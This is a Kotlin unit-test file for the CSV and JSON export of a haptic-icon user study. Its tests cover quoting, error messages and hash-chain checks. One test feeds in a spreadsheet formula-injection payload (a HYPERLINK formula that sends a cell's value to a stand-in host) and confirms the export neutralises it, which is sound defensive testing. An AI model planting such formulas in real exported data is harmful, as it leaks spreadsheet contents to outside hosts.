package org.hapticon.study.export

import org.hapticon.study.OriginatingStudy
import org.hapticon.study.schema.ProtocolException
import org.hapticon.study.StudyPlan
import org.hapticon.study.StudySession
import org.hapticon.study.StudyStep
import org.hapticon.study.log.ChainVerification
import org.hapticon.study.log.EventLog
import org.hapticon.study.log.LogEntry
import org.hapticon.study.log.StudyEvent
import org.hapticon.study.log.verifyChain
import org.junit.Assert.assertEquals
import org.junit.Assert.assertThrows
import org.junit.Test

class ExportTest {
    private val protocol = OriginatingStudy.PROTOCOL

    /** A full session of participant [index]: each trial shown at t, icon pressed [presses] times, answered at t + 1500 + trial. */
    private fun session(index: Int, presses: Int = 2): List<LogEntry> {
        val plan = StudyPlan.of(protocol, index)
        val log = EventLog.start(plan.participantId)
        var now = 1_700_000_000_000L
        log.append(StudyEvent.SessionStarted(protocol.id, protocol.revision, index, 0L), now)
        while (true) {
            now += 10_000
            when (val step = StudySession(plan).nextStep(log.events)) {
                is StudyStep.TaskIntro -> log.append(StudyEvent.TaskStarted(step.task.id), now)
                is StudyStep.Explore -> log.append(StudyEvent.ExplorationEnded(step.task.id), now)
                is StudyStep.Trial -> {
                    log.append(StudyEvent.StimulusShown(step.task.id, step.stimulus.id), now)
                    repeat(presses) {
                        log.append(StudyEvent.IconPressed(step.task.id, step.stimulus.id), now + 100 + it)
                        log.append(StudyEvent.PlaybackStarted(step.task.id, step.stimulus.id), now + 110 + it)
                        log.append(StudyEvent.PlaybackFinished(step.task.id, step.stimulus.id), now + 900 + it)
                    }
                    log.append(StudyEvent.Answer(step.task.id, step.stimulus.id, 1 + step.trial % 5), now + 1_500 + step.trial)
                }
                is StudyStep.TaskEnd -> log.append(StudyEvent.TaskEnded(step.task.id), now)
                StudyStep.Done -> break
            }
        }
        log.append(StudyEvent.SessionEnded, now)
        return log.entries
    }

    @Test
    fun rows_participant1_exactValues() {
        val rows = ResponseRows.of(protocol, session(1))
        assertEquals(12, rows.size)
        val first = rows[0]
        assertEquals(
            ResponseRow(
                studyId = "hapticon-icons", protocolVersion = 1, envelopeModel = "processing", participant = "P001-D", participantIndex = 1, task = "icons", taskPosition = 1,
                trial = 1, stimulus = "hit", icon = "hit", text = null, sticker = null, question = "Haptic icon 1 feels like hitting",
                response = 2, responseTimeMillis = 1_501, iconPresses = 2, answeredAtMillis = first.answeredAtMillis,
            ),
            first,
        )
        // Participant 1 does stickers before text.
        assertEquals(listOf("icons", "stickers", "text"), rows.map { it.task }.distinct())
        assertEquals(listOf(1, 2, 3, 4), rows.filter { it.task == "stickers" }.map { it.trial })
        assertEquals(2, rows.first { it.task == "stickers" }.taskPosition)
        assertEquals("sticker_hit", rows.first { it.task == "stickers" }.sticker)
        assertEquals("Take that!", rows.first { it.task == "text" }.text)
    }

    @Test
    fun rows_noStimulusShown_nullResponseTime_zeroPresses() {
        val log = EventLog.start("P000-A")
        log.append(StudyEvent.SessionStarted(protocol.id, 1, 0, 0L), 0)
        log.append(StudyEvent.Answer("icons", "knock", 5), 10)
        val row = ResponseRows.of(protocol, log.entries).single()
        assertEquals(null, row.responseTimeMillis)
        assertEquals(0, row.iconPresses)
        assertEquals("Haptic icon 4 feels like knocking", row.question)
        assertEquals(emptyList<ResponseRow>(), ResponseRows.of(protocol, emptyList()))
    }

    @Test
    fun rows_badLogs_clearErrors() {
        val log = EventLog.start("P000-A")
        log.append(StudyEvent.Answer("icons", "knock", 5), 10)
        expect("the log has no session_started event") { ResponseRows.of(protocol, log.entries) }
        val other = EventLog.start("P000-A").apply { append(StudyEvent.SessionStarted("other", 1, 0, 0L), 0) }
        expect("the session ran protocol other revision 1, not hapticon-icons revision 1") { ResponseRows.of(protocol, other.entries) }
        val unknown = EventLog.start("P000-A").apply {
            append(StudyEvent.SessionStarted(protocol.id, 1, 0, 0L), 0)
            append(StudyEvent.Answer("icons", "tickle", 3), 1)
        }
        expect("entry 1: task icons has no stimulus tickle in this protocol") { ResponseRows.of(protocol, unknown.entries) }
        val offScale = EventLog.start("P000-A").apply {
            append(StudyEvent.SessionStarted(protocol.id, 1, 0, 0L), 0)
            append(StudyEvent.Answer("icons", "hug", 6), 1)
        }
        expect("entry 1: answer 6 is outside 1..5") { ResponseRows.of(protocol, offScale.entries) }
    }

    @Test
    fun csv_roundTrips_withQuotingAndEmptyFields() {
        val rows = (0 until 4).flatMap { ResponseRows.of(protocol, session(it, presses = it)) }
        val csv = ResponseCsv.write(rows)
        assertEquals(ResponseCsv.HEADER + "\r\n", csv.substring(0, csv.indexOf("\r\n") + 2))
        assertEquals(rows, ResponseCsv.read(csv))
        val tricky = rows[0].copy(text = "Say \"hi\",\nthen\r\nleave", sticker = null, question = "a,b", responseTimeMillis = null)
        val written = ResponseCsv.write(listOf(tricky))
        assertEquals(
            ResponseCsv.HEADER + "\r\nhapticon-icons,1,processing,P000-A,0,icons,1,1,stroke,stroke,\"Say \"\"hi\"\",\nthen\r\nleave\",,\"a,b\",2,,0," +
                "${tricky.answeredAtMillis}\r\n",
            written,
        )
        assertEquals(listOf(tricky), ResponseCsv.read(written))
        assertEquals(listOf(tricky), ResponseCsv.read(written.replace("\r\nhapticon", "\nhapticon").removeSuffix("\r\n")))
        assertEquals(emptyList<ResponseRow>(), ResponseCsv.read(ResponseCsv.HEADER))
    }

    @Test
    fun csv_forSpreadsheet_neutralisesFormulaCells_plainFormUnchanged() {
        val row = ResponseRows.of(protocol, session(0))[0].copy(text = "=HYPERLINK(\"http://x/?\"&A1,\"go\")", sticker = "@SUM(1)", question = "-2+3", responseTimeMillis = null)
        val line = ResponseCsv.write(listOf(row), forSpreadsheet = true).split("\r\n")[1]
        assertEquals(
            "hapticon-icons,1,processing,P000-A,0,icons,1,1,stroke,stroke,\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"go\"\")\",'@SUM(1),'-2+3,2,,${row.iconPresses},${row.answeredAtMillis}",
            line,
        )
        assertEquals(listOf(row), ResponseCsv.read(ResponseCsv.write(listOf(row)))) // the plain form (uploads) is untouched
        assertEquals(listOf("-1", "+2.5e3", "'+", "'\tx", "'\rx", "a=b", ""), listOf("-1", "+2.5e3", "+", "\tx", "\rx", "a=b", "").map(CsvInjection::neutralise))
    }

    @Test
    fun csv_envelopeModel_namesTheModelTheProtocolPlayed() {
        val paper = protocol.copy(envelopeModel = org.hapticon.core.render.EnvelopeModel.PAPER)
        val processingRows = ResponseRows.of(protocol, session(0))
        val paperRows = ResponseRows.of(paper, session(0))
        assertEquals(setOf("processing"), processingRows.map { it.envelopeModel }.toSet())
        assertEquals(setOf("paper"), paperRows.map { it.envelopeModel }.toSet())
        assertEquals("hapticon-icons,1,paper,", ResponseCsv.write(paperRows).lines()[1].substring(0, 23))
    }

    @Test
    fun csv_read_errorsNameLineAndColumn() {
        val good = ResponseCsv.write(ResponseRows.of(protocol, session(0)).take(2))
        expect("empty CSV: expected the header ${ResponseCsv.HEADER}") { ResponseCsv.read("") }
        expect("line 1: header must be exactly ${ResponseCsv.HEADER}") { ResponseCsv.read(good.replace("study_id", "study")) }
        expect("line 3, column response: expected an integer, got 'x'") { ResponseCsv.read(good.replace(Regex("(hitting,)3,"), "$1x,")) }
        expect("line 2: expected 17 fields, got 16") { ResponseCsv.read(good.replaceFirst(",icons,", ",")) }
        expect("line 2: unterminated quoted field") { ResponseCsv.read(ResponseCsv.HEADER + "\r\n\"open") }
        expect("line 2: text after a closing quote") { ResponseCsv.read(ResponseCsv.HEADER + "\r\n\"a\"b") }
        expect("line 2, column study_id: must not be empty") { ResponseCsv.read(good.replace("\r\nhapticon-icons,1,processing,P000-A,0,icons,1,1,", "\r\n,1,processing,P000-A,0,icons,1,1,")) }
        expect("line 2, column answered_at: expected an integer, got ''") { ResponseCsv.read(good.replace(Regex(",\\d+\r\n"), ",\r\n")) }
    }

    @Test
    fun json_roundTrips_andChainsStillVerify() {
        val export = StudyExport(protocol, (0 until 3).map { SessionLog(StudyPlan.of(protocol, it).participantId, session(it)) })
        val decoded = StudyExport.decode(StudyExport.encode(export))
        assertEquals(export, decoded)
        decoded.sessions.forEach { assertEquals(ChainVerification.Intact, it.entries.verifyChain()) }
        assertEquals(ResponseRows.of(protocol, export.sessions[2].entries), ResponseRows.of(decoded.protocol, decoded.sessions[2].entries))
        assertEquals(StudyExport(protocol, emptyList()), StudyExport.decode(StudyExport.encode(StudyExport(protocol, emptyList()), "")))
    }

    @Test
    fun json_errorsNamePaths() {
        val text = StudyExport.encode(StudyExport(protocol, listOf(SessionLog("P000-A", session(0).take(3)))), "")
        expect("participants[0].entries[0].hash: missing") { StudyExport.decode(text.replaceFirst("\"hash\":", "\"hesh\":")) }
        expect("protocol.scale.points: must be in 2..11, was 0") { StudyExport.decode(text.replace("\"points\":5", "\"points\":0")) }
        expect("schema: expected \"hapticon.study-export\", got \"hapticon.study\"") {
            StudyExport.decode(text.replace("hapticon.study-export", "hapticon.study"))
        }
        assertThrows(ProtocolException::class.java) { StudyExport.decode(text.replace("\"hash\":", "\"hesh\":")) }
    }

    private fun expect(message: String, block: () -> Unit) =
        assertEquals(message, assertThrows(IllegalArgumentException::class.java) { block() }.message)
}
